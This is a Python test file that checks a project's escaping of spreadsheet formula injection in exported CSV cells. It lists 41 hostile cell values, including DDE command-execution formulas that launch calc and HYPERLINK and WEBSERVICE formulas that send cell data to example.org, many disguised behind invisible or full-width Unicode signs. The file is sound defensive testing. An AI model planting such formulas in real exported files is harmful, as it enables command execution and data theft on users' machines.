"""Forty-one ways to type a formula into a cell, and none of them is one in any file that Kette gives away."""

import csv
import io
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kette.cells import plain

KETTE = Path(__file__).parents[1] / "kette"
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://example.org?x="&A1;"Klick")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML("http://example.org","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",
    "\u2003@SUM(A1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200d-1+1",
    "\u2060+1",
    "\u00ad=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "\u22121+1",
    " \u00a0\u200b\t＝1+1",
    "Müller\n=1+1",
    "Müller\r=1+1",
    "Müller\r\n +1+1",
    "Müller\n\u00a0@SUM(A1)",
    "Müller\u2028=1+1",
    "Müller\v-1+1",
    "Müller\x85＝1+1",
    "\x00=1+1",
)
HARMLESS = (
    "Müller",
    "Şükrü Öztürk",
    "K-2027-0142",
    "a=b",
    "1 - 2",
    "O'Neill",
    "",
    "a\nb",
    "10:15",
    "(+49) 999",
)


def begins_a_formula(line: str) -> bool:
    """Say, in other words than the program, whether a line would be read as a formula."""
    unseen = {"Cc", "Cf", "Zs", "Zl", "Zp"}
    seen = next((sign for sign in line if unicodedata.category(sign) not in unseen), "")
    return line[:1] in {"\t", "\r"} or unicodedata.normalize("NFKC", seen) in {"=", "+", "-", "@", "\u2212"}


def test_there_are_as_many_as_we_say():
    assert len(set(PAYLOADS)) == 41


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_no_payload_is_a_formula_after_all(number):
    written = plain(PAYLOADS[number])
    assert not any(begins_a_formula(line) for line in written.splitlines() or [""])
    assert written.replace("'", "") == PAYLOADS[number].replace("'", "")


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_a_payload_comes_back_from_the_file_as_text(number):
    out = io.StringIO()
    csv.writer(out, delimiter=";", quoting=csv.QUOTE_ALL).writerow([plain(PAYLOADS[number]), "daneben"])
    back = next(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";"))
    assert back == [plain(PAYLOADS[number]), "daneben"]


@pytest.mark.parametrize("words", HARMLESS)
def test_what_is_no_formula_stays_as_it_was_typed(words):
    assert plain(words) == words


@given(st.text(st.sampled_from("=+-@\t\r\n \u00a0\u200b＝aä1;\"'")))
def test_no_text_is_a_formula(words):
    assert not any(begins_a_formula(line) for line in plain(words).splitlines() if line.strip("\t\r\n"))


def test_whoever_writes_cells_asks_the_one_rule():
    writers = [
        file.relative_to(KETTE).as_posix()
        for file in sorted(KETTE.rglob("*.py"))
        if "csv.writer" in file.read_text("utf-8") or "import xlsxwriter" in file.read_text("utf-8")
    ]
    # The invented lists of Kettenstadt are files of a school, read by Kette alone.
    others = [name for name in writers if name != "demo/lists.py"]
    assert others
    assert [
        name for name in others if "from kette.cells import plain" not in (KETTE / name).read_text("utf-8")
    ] == []
